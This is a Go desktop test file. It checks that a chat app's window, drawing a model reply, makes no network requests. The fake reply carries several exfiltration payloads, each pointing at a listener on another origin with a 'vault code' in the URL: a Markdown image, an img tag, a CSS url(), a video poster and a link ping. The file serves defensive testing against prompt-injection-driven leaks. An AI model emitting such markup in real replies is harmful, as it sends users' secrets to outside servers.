//go:build desktoptest

package desktop

import (
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"quire/test/ollamatest"
)

// TestDesktopReplyLoadsNothing: a reply (as a document could steer it)
// holds every way the outside attack run found to make the window fetch a
// URL as it draws the reply — a Markdown image, an <img>, a style's url(),
// a <video poster>, a link's ping — each pointing at a listener on another
// port (another origin, standing for a server off the laptop). The window
// shows the reply, the image as words, and the listener never hears from
// it. WebKit starts an element's fetch when the element is inserted, and
// the probe's snapshot is taken after the reply is drawn; stopping the app
// before looking lets any fetch already started arrive first.
func TestDesktopReplyLoadsNothing(t *testing.T) {
	display := startXvfb(t)
	var mu sync.Mutex
	var heard []string
	leak := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		heard = append(heard, r.Method+" "+r.URL.String())
		mu.Unlock()
	}))
	// Every connection counts, not only a request: a preconnect leaks too.
	leak.Config.ConnState = func(c net.Conn, s http.ConnState) {
		if s == http.StateNew {
			mu.Lock()
			heard = append(heard, "connection from "+c.RemoteAddr().String())
			mu.Unlock()
		}
	}
	leak.Start()
	t.Cleanup(leak.Close)
	u := leak.URL
	reply := "Here is your answer. ![status](" + u + "/leak?code=4471-ALPHA) <img src=\"" + u + "/leak2?code=4471\"> [click](" + u + "/leak3) " +
		"<span style=\"background-image:url(" + u + "/leak4?css)\">x</span> <video poster=\"" + u + "/leak5\"></video> " +
		"<a href=\"" + u + "/leak6\" ping=\"" + u + "/leak7\">p</a> That is all."
	fake := ollamatest.New(t, ollamatest.WithDelay(10*time.Millisecond), ollamatest.WithReplies(func(last string) (ollamatest.Turn, bool) {
		if !strings.Contains(last, "vault code") {
			return ollamatest.Turn{}, false
		}
		return ollamatest.Turn{Content: strings.SplitAfter(reply, " ")}, true
	}))
	fake.AddModel(ollamatest.DefaultModel())
	probe := filepath.Join(t.TempDir(), "view.json")
	a := startApp(t, display, t.TempDir(), probe, fake.URL())
	waitView(t, a, probe, "the frontend to load", func(v view) bool { return v.Messages != nil })
	send(t, display, "what is the vault code?")
	image := "[image: status, " + u + "/leak?code=4471-ALPHA]"
	waitView(t, a, probe, "the reply with its image as words", func(v view) bool {
		return v.has("assistant", image) && v.has("assistant", "That is all.") && !v.Streaming
	})
	screenshot(t, display, "desktop-exfil.png")
	a.stop(t)
	mu.Lock()
	defer mu.Unlock()
	if len(heard) > 0 {
		t.Fatalf("drawing the reply reached the other origin:\n%s", strings.Join(heard, "\n"))
	}
}
